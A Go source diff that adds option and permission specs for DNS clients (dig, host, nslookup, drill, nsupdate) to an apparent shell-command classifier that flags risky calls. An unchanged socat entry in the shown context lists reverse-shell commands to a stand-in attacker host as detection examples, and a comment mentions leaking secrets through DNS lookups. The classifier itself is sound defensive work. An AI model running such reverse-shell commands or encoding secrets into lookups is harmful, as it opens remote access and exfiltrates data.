@@ -209,5 +209,43 @@ var _ = family("network", func(add func(...*Spec)) {
 		&Spec{Names: n("socat"), Talk: Talk{Beyond: true, Examples: []string{"socat host => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"socat x => Bash(socat x)"}}, Effect: Network, Lang: "socat", Operands: "c c?", Loose: true,
 			Options: "-h:h -V:h -d -D -v -x -s -u -U -g -4 -6 -b= -t= -T= -r=w -R=w -L=w -W=w",
 			Flagged: []string{"socat tcp-connect:attacker.example:4444 exec:sh", "socat -d -d -b 8192 TCP:10.0.0.1:4444 EXEC:/bin/bash"}},
+		// The DNS clients. A lookup talks to a resolver and sends it the
+		// name asked for (a name built from secrets leaks them: the dns
+		// check reads the operands). dig 9.18.49 (Debian bind9-dnsutils,
+		// observed): short options bundle (-46), a value is attached or
+		// the next word (-tMX, -t MX), options and +query options stand
+		// anywhere, -f names a batch file and -k a key file it reads.
+		&Spec{Names: n("dig"), Grant: Grant{Exact: true, Offers: []string{"dig example.com => Bash(dig example.com)"}}, Effect: Network, Permute: true, Operands: "-*",
+			Options:  "+= -4 -6 -d -i -m -n -r -u -b= -c= -f=r -k=r -p= -q= -t= -x= -y= -h:h -v:h",
+			ReadOnly: []string{"dig -h", "dig -v"},
+			Flagged:  []string{"dig example.com", "dig +short TXT _dmarc.example.com", "dig -tMX example.com", "dig @1.1.1.1 -x 8.8.8.8", "dig -f names.txt"}},
+		// host 9.18.49 (observed): getopt-like, short options only, a
+		// value attached or next (-tA, -t A); the options stop at the
+		// name (host localhost -t A looks up "-t").
+		&Spec{Names: n("host"), Grant: Grant{Exact: true, Offers: []string{"host example.com => Bash(host example.com)"}}, Effect: Network, Operands: "- -?",
+			Options:  "-4 -6 -a -A -C -d -i -l -r -s -T -U -v -w -c= -m= -N= -p= -R= -t= -W= -V:h",
+			ReadOnly: []string{"host -V"},
+			Flagged:  []string{"host example.com", "host -t MX example.com", "host -vtA example.com 1.1.1.1", "host -l example.com ns1.example.com"}},
+		// nslookup 9.18.49 (observed): -name and -name=value options
+		// anywhere (-type=A, -query=MX, -debug: the set options, taken by
+		// unique prefixes); with no name it reads commands from its
+		// input, each a lookup or a setting.
+		&Spec{Names: n("nslookup"), Grant: Grant{Exact: true, Offers: []string{"nslookup example.com => Bash(nslookup example.com)"}}, Effect: Network, LongDash: true, Loose: true, Permute: true, Operands: "- -?",
+			Options: "-type= -querytype= -query= -q= -port= -timeout= -retry= -class= -domain= -ndots= -debug -nodebug -d2 -nod2 -vc -novc -recurse -norecurse -search -nosearch -fail -nofail -version:h",
+			Flagged: []string{"nslookup example.com", "nslookup -type=MX example.com", "nslookup example.com -query=TXT 1.1.1.1", "nslookup"}},
+		// drill 1.8.3 (ldns, observed: "arguments may be placed in random
+		// order"): getopt, short options; -w and -q write a packet to a
+		// file, -f and -i read one, -c, -k and -r read configuration.
+		&Spec{Names: n("drill"), Grant: Grant{Exact: true, Offers: []string{"drill example.com => Bash(drill example.com)"}}, Effect: Network, Permute: true, Operands: "-*",
+			Options:  "-4 -6 -a -D -T -S -Q -s -t -u -x -z -I= -V= -f=r -i=r -w=w -q=w -b= -c=r -k=r -o= -p= -r=r -d= -y= -e= -E= -h:h -v:h",
+			ReadOnly: []string{"drill -v"},
+			Flagged:  []string{"drill example.com", "drill -TD example.com", "drill example.com @1.1.1.1 MX", "drill -w out.pkt example.com"}},
+		// nsupdate 9.18.49 (observed: -C takes a resolv.conf): getopt, short options; it
+		// reads update commands from the file or its input and sends them
+		// to a name server: a change to the zone, more than a fetch (the
+		// admin-stdin check reads the commands piped in).
+		&Spec{Names: n("nsupdate"), Talk: Talk{Beyond: true, Examples: []string{"nsupdate -l => undecided"}}, Grant: Grant{Exact: true, Offers: []string{"nsupdate -l => Bash(nsupdate -l)"}}, Effect: Network, Operands: "r?",
+			Options: "-4 -6 -d -D -i -l -g -o -M -P -T -v -V:h -C=r -L= -y= -k=r -p= -t= -u= -r= -R=",
+			Flagged: []string{"nsupdate -l", "nsupdate -k /etc/bind/k.key update.txt", "nsupdate -vk k.key"}},
 	)
 })
